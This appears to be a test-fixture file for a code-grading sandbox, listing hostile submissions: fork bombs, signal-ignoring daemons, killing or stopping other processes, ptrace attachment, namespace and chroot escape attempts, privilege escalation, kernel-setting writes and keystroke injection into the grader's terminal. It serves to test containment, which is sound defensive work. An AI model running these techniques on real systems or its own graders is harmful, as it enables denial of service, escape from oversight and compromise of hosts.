# ruff: noqa
# Attacks with and on processes. Each process that they leave carries the tag.

# guarded

import os

import ctypes
import signal
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)


def mark():
    try:
        with open("/proc/self/comm", "w") as file:
            file.write("@TAG@"[:15])
    except OSError:
        pass


def put(path, data=None):
    """Write to a file of the kernel's; without data what it holds already, to do no harm."""
    if data is None:
        with open(path, "rb") as file:
            data = file.read()
    number = os.open(path, os.O_WRONLY)
    try:
        os.write(number, data)
    finally:
        os.close(number)


def others():
    names = [name for name in os.listdir("/proc") if name.isdigit()]
    return [int(name) for name in names if int(name) != os.getpid()]


# %% fork_bomb
# goal: as many processes as there can be (two thousand, to be kind)
# cell derivative
def derivative(f, x):
    for _ in range(2000):
        try:
            if os.fork() == 0:
                mark()
                time.sleep(120)
                os._exit(0)
        except OSError:
            break
    return 0.0


# %% daemon
# goal: a program that goes on after the grading
# honest: all
# cell own
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve("/bin/sh", ["@TAG@", "-c", "sleep 121 # @TAG@"], {"MARK": "@TAG@"})
    os._exit(0)


# %% daemon_of_an_answer
# goal: the same, from within an answer, deaf to signals and holding every pipe open
# cell derivative
def derivative(f, x):
    if os.fork() == 0:
        os.setsid()
        mark()
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        end = time.time() + 122
        while time.time() < end:
            time.sleep(0.5)
            try:
                os.write(1, b"still here\n")
            except OSError:
                pass
        os._exit(0)
    return 0.0


# %% endless_threads
# goal: threads that nobody can end
# honest: all
# cell own
import threading

for _ in range(20):
    threading.Thread(target=time.sleep, args=(123,), daemon=False).start()


# %% many_threads
# goal: as many threads as there can be (two thousand, to be kind)
# honest: count_words
# cell own
import threading

started = 0
try:
    for _ in range(2000):
        threading.Thread(target=time.sleep, args=(20,), daemon=True).start()
        started += 1
except RuntimeError:
    pass
print(started)


# %% kills_its_parent
# goal: whoever started this process
# cell derivative
def derivative(f, x):
    for victim in (os.getppid(), 1):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(victim, number)
            except OSError:
                pass
    return 0.0


# %% kills_its_group
# goal: the process group, which may reach beyond the jail
# cell own
if os.getpgrp() != os.getpid():  # 0: its leader lies outside
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    print("GROUP OUTSIDE", os.getpgrp(), os.getsid(0))
    os.kill(0, signal.SIGTERM)


# %% kills_everybody
# goal: all processes that there are
# cell derivative
def derivative(f, x):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for victim in (*others(), -1):
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(victim, number)
            except OSError:
                pass
    return 0.0


# %% stops_everybody
# goal: all processes stand still
# cell derivative
def derivative(f, x):
    for victim in others():
        try:
            os.kill(victim, signal.SIGSTOP)
        except OSError:
            pass
    return 0.0


# %% stops_itself
# goal: no answer, no time used
# cell derivative
def derivative(f, x):
    os.kill(os.getpid(), signal.SIGSTOP)
    return 0.0


# %% kills_by_number
# goal: the numbers of the processes outside, guessed
# cell own
for victim in range(2, 3000):
    if victim != os.getpid():
        try:
            os.kill(victim, signal.SIGKILL)
        except OSError:
            pass


# %% traces_its_parent
# goal: hold on to other processes and write into them
# cell derivative
def derivative(f, x):
    for victim in others():
        if libc.ptrace(16, victim, 0, 0) == 0:  # PTRACE_ATTACH
            print("ATTACHED", victim)
    libc.ptrace(0, 0, 0, 0)  # PTRACE_TRACEME: the parent may hold on to this one
    libc.raise_(signal.SIGTRAP) if hasattr(libc, "raise_") else os.kill(os.getpid(), signal.SIGTRAP)
    return 0.0


# %% starves_others
# goal: other processes get no time, no files and no memory
# cell own
import resource

for victim in others():
    for action in (
        lambda: os.setpriority(os.PRIO_PROCESS, victim, 19),
        lambda: os.sched_setaffinity(victim, {0}),
        lambda: resource.prlimit(victim, resource.RLIMIT_NOFILE, (0, 0)),
        lambda: resource.prlimit(victim, resource.RLIMIT_CPU, (1, 1)),
        lambda: put(f"/proc/{victim}/oom_score_adj", b"1000"),
    ):
        try:
            action()
            print("CHANGED", victim)
        except (OSError, ValueError):
            pass
for action in (
    lambda: os.nice(-20),
    lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)),
    lambda: resource.setrlimit(resource.RLIMIT_NPROC, (-1, -1)),
    lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)),
    lambda: put("/proc/self/oom_score_adj", b"-1000"),
):
    try:
        action()
        print("RAISED", action.__code__.co_firstlineno)
    except (OSError, ValueError):
        pass


# %% leaves_the_jail
# goal: other namespaces, other roots, other users
# cell own
import re


def peek():
    try:
        print("ESCAPED", os.listdir("@COURSE@"))
    except OSError:
        pass


for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x02000000):
    if libc.unshare(flag) == 0:
        print("unshared", hex(flag))
        libc.mount(b"none", b"/", None, 0x44000, None)
        libc.mount(b"/", b"/tmp", None, 0x5000, None)
        libc.mount(b"proc", b"/proc", b"proc", 0, None)
        libc.umount2(b"/tmp", 2)
        peek()
for victim in (1, os.getppid()):
    for kind in ("user", "mnt", "pid", "net", "ipc"):
        try:
            number = os.open(f"/proc/{victim}/ns/{kind}", os.O_RDONLY)
            if libc.setns(number, 0) == 0:
                print("entered", kind)
            peek()
        except OSError:
            pass
for action in (
    lambda: os.setuid(0),
    lambda: os.setresuid(0, 0, 0),
    lambda: os.setgroups([0]),
    lambda: os.chroot("/tmp"),
    lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(254, 0)),
    lambda: put("/proc/sysrq-trigger", b"h"),
    lambda: put("/dev/kmsg", b"@TAG@"),
    lambda: open("/dev/mem", "rb").read(1),
    lambda: subprocess.run(["bwrap", "--bind", "/", "/", "true"], check=True, timeout=2),
    lambda: subprocess.run(["sudo", "-n", "true"], check=True, timeout=2),
    lambda: subprocess.run(["su", "-c", "true"], check=True, timeout=2, stdin=subprocess.DEVNULL),
):
    try:
        action()
        print("ALLOWED", action.__code__.co_firstlineno)
    except (OSError, ValueError, subprocess.SubprocessError):
        pass
peek()


# %% kernel_settings
# goal: settings of the whole machine, such as the program that is run at a crash
# cell own
for name in (
    "kernel/core_pattern",
    "kernel/modprobe",
    "kernel/hotplug",
    "kernel/panic",
    "kernel/pid_max",
    "kernel/printk",
    "kernel/randomize_va_space",
    "kernel/yama/ptrace_scope",
    "fs/file-max",
    "fs/protected_symlinks",
    "vm/overcommit_memory",
    "vm/swappiness",
):
    try:
        put(f"/proc/sys/{name}")
        print("ALLOWED", name)
    except OSError as error:
        print("no", error)
for name in ("/sys/kernel/uevent_helper", "/sys/power/state", "/proc/irq/default_smp_affinity"):
    try:
        put(name)
        print("ALLOWED", name)
    except OSError as error:
        print("no", error)


# %% types_into_the_terminal
# goal: a command in the terminal of whoever grades
# cell own
import fcntl

TIOCSTI = 0x5412
for place in (0, 1, 2, "/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1"):
    try:
        number = place if isinstance(place, int) else os.open(place, os.O_RDWR)
        for letter in b"echo @TAG@\n":
            fcntl.ioctl(number, TIOCSTI, bytes([letter]))
        print("TYPED", place)
    except OSError:
        pass


# %% many_short_lives
# goal: hundreds of children that nobody buries
# honest: count_words
# cell own
for _ in range(300):
    try:
        if os.fork() == 0:
            os._exit(0)
    except OSError:
        break


# %% cpu_hogs
# goal: children that keep every core busy after the answer is given
# cell derivative
def derivative(f, x):
    for _ in range(4):
        if os.fork() == 0:
            mark()
            end = time.time() + 60
            while time.time() < end:
                pass
            os._exit(0)
    return 0.0
